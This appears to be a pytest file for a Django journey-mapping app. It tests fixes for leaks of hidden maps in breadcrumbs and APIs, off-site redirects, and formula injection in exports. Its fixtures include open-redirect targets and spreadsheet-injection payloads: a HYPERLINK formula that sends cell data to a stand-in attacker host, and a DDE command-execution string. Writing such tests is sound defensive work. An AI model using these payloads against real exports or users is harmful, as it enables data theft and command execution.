"""Small leaks closed: hidden ancestors in breadcrumbs, ``?map=`` as an existence oracle,
hidden ids in project JSON, off-site ``next`` redirects, formulas in exports."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from guardian.shortcuts import assign_perm
from openpyxl import load_workbook
from rest_framework.test import APIClient

from governance.permissions import visible_maps
from maps.models import JourneyMap
from maps.selectors import map_crumbs
from tests.factories import (
    CXProjectFactory,
    JourneyMapFactory,
    KPIFactory,
    LaneItemFactory,
    PainPointFactory,
    QualitativeFactorFactory,
    StageFactory,
    StepFactory,
)

pytestmark = pytest.mark.django_db

SECRET = "Secret merger plans"


@pytest.fixture
def hidden_tree(other_owner, owner):
    """omar's draft lifecycle (hidden from vic) above a published journey with a task.

    Secret merger plans (draft, omar) › Open an account (published) › Verify identity
    """
    secret = JourneyMapFactory(
        title=SECRET, slug="secret-merger-plans", owner=other_owner, status="draft"
    )
    board = StepFactory(map=secret, name="Board approval", key="board")
    journey = JourneyMapFactory(
        title="Open an account", slug="open-an-account", owner=owner, parent=secret
    )
    journey.parent_step = board
    journey.save()
    task = JourneyMapFactory(
        title="Verify identity", slug="verify-identity", owner=owner, parent=journey
    )
    for m in (secret, journey, task):
        m.refresh_from_db()
    return {"secret": secret, "board": board, "journey": journey, "task": task}


# --- breadcrumbs -------------------------------------------------------------------


class TestBreadcrumbs:
    def test_a_hidden_ancestor_is_a_neutral_gap_on_the_map_page(self, client, viewer, hidden_tree):
        client.force_login(viewer)
        page = client.get(hidden_tree["task"].get_absolute_url()).text
        assert SECRET not in page
        assert "secret-merger-plans" not in page
        assert 'class="crumb-hidden"' in page
        assert f'href="{hidden_tree["journey"].get_absolute_url()}">Open an account</a>' in page

    def test_zooms_into_is_left_out_when_the_parent_is_hidden(self, client, viewer, hidden_tree):
        client.force_login(viewer)
        page = client.get(hidden_tree["journey"].get_absolute_url()).text
        assert SECRET not in page
        assert "Board approval" not in page
        assert "Zooms into" not in page

    def test_the_scorecard_crumbs_hide_it_too(self, client, viewer, hidden_tree):
        client.force_login(viewer)
        page = client.get(f"/maps/{hidden_tree['task'].slug}/scorecard/").text
        assert SECRET not in page
        assert "secret-merger-plans" not in page
        assert 'class="crumb-hidden"' in page

    def test_the_event_log_page_crumbs_hide_it_too(self, client, viewer, hidden_tree):
        client.force_login(viewer)
        page = client.get(f"/maps/{hidden_tree['task'].slug}/events/").text
        assert SECRET not in page
        assert 'class="crumb-hidden"' in page

    def test_those_who_may_open_the_ancestor_see_its_title_and_link(
        self, client, other_owner, leader, hidden_tree
    ):
        for user in (other_owner, leader):
            client.force_login(user)
            page = client.get(hidden_tree["task"].get_absolute_url()).text
            assert f'href="/maps/secret-merger-plans/">{SECRET}</a>' in page
            assert "crumb-hidden" not in page
            assert "Zooms into" in client.get(hidden_tree["journey"].get_absolute_url()).text

    def test_a_view_grant_on_the_ancestor_shows_it(self, client, viewer, hidden_tree):
        assign_perm("view_journeymap", viewer, hidden_tree["secret"])
        client.force_login(viewer)
        assert SECRET in client.get(hidden_tree["task"].get_absolute_url()).text

    def test_the_selector_runs_one_query_and_collapses_hidden_runs(
        self, viewer, owner, hidden_tree
    ):
        deeper = JourneyMapFactory(
            title="Hidden middle", owner=hidden_tree["secret"].owner, status="draft"
        )
        deeper.parent = hidden_tree["secret"]
        deeper.save()
        leaf = JourneyMapFactory(title="Leaf", owner=owner, parent=deeper)
        leaf.refresh_from_db()
        visible = visible_maps(viewer)  # the user's groups and roles are read here
        with CaptureQueriesContext(connection) as queries:
            crumbs = map_crumbs(leaf, visible=visible)
        assert len(queries) == 1
        assert [c.title for c in crumbs] == [None]  # two hidden ancestors, one gap
        assert map_crumbs(hidden_tree["secret"], visible=visible) == []


# --- ?map= is no existence oracle --------------------------------------------------------


def _missing_id() -> int:
    return (JourneyMap.objects.order_by("-pk").values_list("pk", flat=True).first() or 0) + 1000


@pytest.fixture
def api(viewer):
    client = APIClient()
    client.force_authenticate(viewer)
    return client


@pytest.mark.parametrize(
    "path",
    [
        "/api/stages/?map={}",
        "/api/steps/?map={}",
        "/api/pain-points/?map={}",
        "/api/lane-items/?map={}",
        "/api/kpis/?map={}",
        "/api/qualitative-factors/?map={}",
        "/api/maps/?parent={}",
        "/api/map-grants/?content_object={}",
    ],
)
def test_a_hidden_map_id_answers_like_a_missing_one(api, draft_map, path):
    StepFactory(map=draft_map)
    hidden = api.get(path.format(draft_map.pk))
    missing = api.get(path.format(_missing_id()))
    assert hidden.status_code == missing.status_code == 400
    assert hidden.json() == missing.json()


def test_a_hidden_step_id_answers_like_a_missing_one(api, draft_map):
    step = StepFactory(map=draft_map)
    hidden = api.get(f"/api/pain-points/?step={step.pk}")
    missing = api.get(f"/api/pain-points/?step={step.pk + 1000}")
    assert hidden.status_code == missing.status_code == 400
    assert hidden.json() == missing.json()


def test_the_maps_owner_filters_by_it(other_owner, draft_map):
    StageFactory(map=draft_map)
    StepFactory(map=draft_map)
    PainPointFactory(map=draft_map)
    LaneItemFactory(map=draft_map)
    KPIFactory(map=draft_map)
    QualitativeFactorFactory(map=draft_map)
    client = APIClient()
    client.force_authenticate(other_owner)
    for path in ("stages", "steps", "pain-points", "lane-items", "kpis", "qualitative-factors"):
        response = client.get(f"/api/{path}/?map={draft_map.pk}")
        assert response.status_code == 200, path
        assert len(response.json()["results"]) == 1, path


# --- project JSON lists only what the reader may see ------------------------------------


@pytest.fixture
def mixed_project(owner, team_map, draft_map):
    """A project of olivia's touching her published map and omar's hidden draft."""
    seen_step = StepFactory(map=team_map)
    seen_pain = PainPointFactory(map=team_map)
    hidden_step = StepFactory(map=draft_map, name="Hidden step")
    hidden_pain = PainPointFactory(map=draft_map, title="Hidden pain")
    project = CXProjectFactory(
        title="Mixed",
        owner=owner,
        maps=[team_map, draft_map],
        steps=[seen_step, hidden_step],
        pain_points=[seen_pain, hidden_pain],
    )
    return {
        "project": project,
        "seen": (team_map.pk, seen_step.pk, seen_pain.pk),
        "all": (
            sorted([team_map.pk, draft_map.pk]),
            sorted([seen_step.pk, hidden_step.pk]),
            sorted([seen_pain.pk, hidden_pain.pk]),
        ),
    }


def _links(row: dict) -> tuple[list, list, list]:
    return sorted(row["maps"]), sorted(row["steps"]), sorted(row["pain_points"])


def test_project_json_leaves_out_ids_on_hidden_maps(api, mixed_project):
    team_map_pk, step_pk, pain_pk = mixed_project["seen"]
    pk = mixed_project["project"].pk
    detail = api.get(f"/api/projects/{pk}/").json()
    listed = next(r for r in api.get("/api/projects/").json()["results"] if r["id"] == pk)
    for row in (detail, listed):
        assert _links(row) == ([team_map_pk], [step_pk], [pain_pk])


def test_the_portfolio_api_names_no_hidden_map_step_or_pain_point(api, mixed_project):
    team_map_pk, step_pk, pain_pk = mixed_project["seen"]
    rows = api.get("/api/portfolio/").json()["results"]
    row = next(r for r in rows if r["id"] == mixed_project["project"].pk)
    text = str(row)
    assert "Hidden step" not in text and "Hidden pain" not in text
    assert "Close my account" not in text
    assert [m["id"] for m in row["maps"]] == [team_map_pk]
    assert [step["id"] for step in row["steps"]] == [step_pk]
    assert [pain["id"] for pain in row["pain_points"]] == [pain_pk]


def test_the_hidden_maps_owner_sees_every_link(other_owner, mixed_project):
    client = APIClient()
    client.force_authenticate(other_owner)
    row = client.get(f"/api/projects/{mixed_project['project'].pk}/").json()
    assert _links(row) == tuple(mixed_project["all"])


def test_the_project_page_names_nothing_hidden(client, viewer, mixed_project):
    client.force_login(viewer)
    page = client.get(f"/projects/{mixed_project['project'].pk}/").text
    assert "Mixed" in page
    assert "Hidden step" not in page and "Hidden pain" not in page
    assert "Close my account" not in page


def test_the_project_list_runs_the_same_queries_for_two_and_six_projects(
    api, owner, team_map, draft_map
):
    def page_queries() -> int:
        with CaptureQueriesContext(connection) as queries:
            assert api.get("/api/projects/").status_code == 200
        return len(queries)

    def add_projects(n: int) -> None:
        for _ in range(n):
            CXProjectFactory(
                owner=owner,
                maps=[team_map, draft_map],
                steps=[StepFactory(map=team_map), StepFactory(map=draft_map)],
                pain_points=[PainPointFactory(map=draft_map)],
            )

    add_projects(2)
    page_queries()  # warm the per-process caches (content types)
    two = page_queries()
    add_projects(4)
    assert page_queries() == two


# --- next= stays on this site --------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example/",
        "http://testserver.evil.example/",
        "javascript:alert(1)",
    ],
)
def test_marking_reviewed_never_redirects_off_site(client, owner, team_map, target):
    client.force_login(owner)
    response = client.post(f"/maps/{team_map.slug}/review/", {"next": target})
    assert response.status_code == 302
    assert response["Location"] == team_map.get_absolute_url()


def test_marking_reviewed_follows_a_next_on_this_site(client, owner, team_map):
    client.force_login(owner)
    response = client.post(f"/maps/{team_map.slug}/review/", {"next": "/maps/?mine=1"})
    assert response["Location"] == "/maps/?mine=1"


# --- exports never carry live formulas -----------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tTabbed",
    "\rReturned",
]


@pytest.fixture
def formula_projects(owner, team_map):
    return [
        CXProjectFactory(title=title, owner=owner, maps=[team_map], reach=100 + i)
        for i, title in enumerate(FORMULAS)
    ]


def test_the_csv_export_neutralises_formula_cells(client, owner, formula_projects):
    client.force_login(owner)
    response = client.get("/portfolio/export.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    titles = {row["title"] for row in rows}
    assert titles == {"'" + title for title in FORMULAS}
    for row in rows:
        assert row["reach"].isdigit()  # numbers stay numbers
        assert float(row["score"]) >= 0 and row["rank"].isdigit()


def test_the_xlsx_export_stores_formula_text_as_quoted_strings(client, owner, formula_projects):
    client.force_login(owner)
    response = client.get("/portfolio/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    title_col, reach_col = header.index("title"), header.index("reach")
    titles = set()
    for row in sheet.iter_rows(min_row=2):
        title = row[title_col]
        assert title.data_type == "s"  # text, never a formula ("f")
        assert title.quotePrefix is True
        titles.add(title.value)
        assert row[reach_col].data_type == "n" and isinstance(row[reach_col].value, int)
    assert titles == set(FORMULAS) - {"\rReturned"} | {"\nReturned"}  # XML turns CR into LF


def test_plain_titles_are_exported_unchanged(client, owner, team_map):
    CXProjectFactory(title="Faster onboarding", owner=owner, maps=[team_map])
    client.force_login(owner)
    rows = list(csv.DictReader(io.StringIO(client.get("/portfolio/export.csv").content.decode())))
    assert [row["title"] for row in rows] == ["Faster onboarding"]
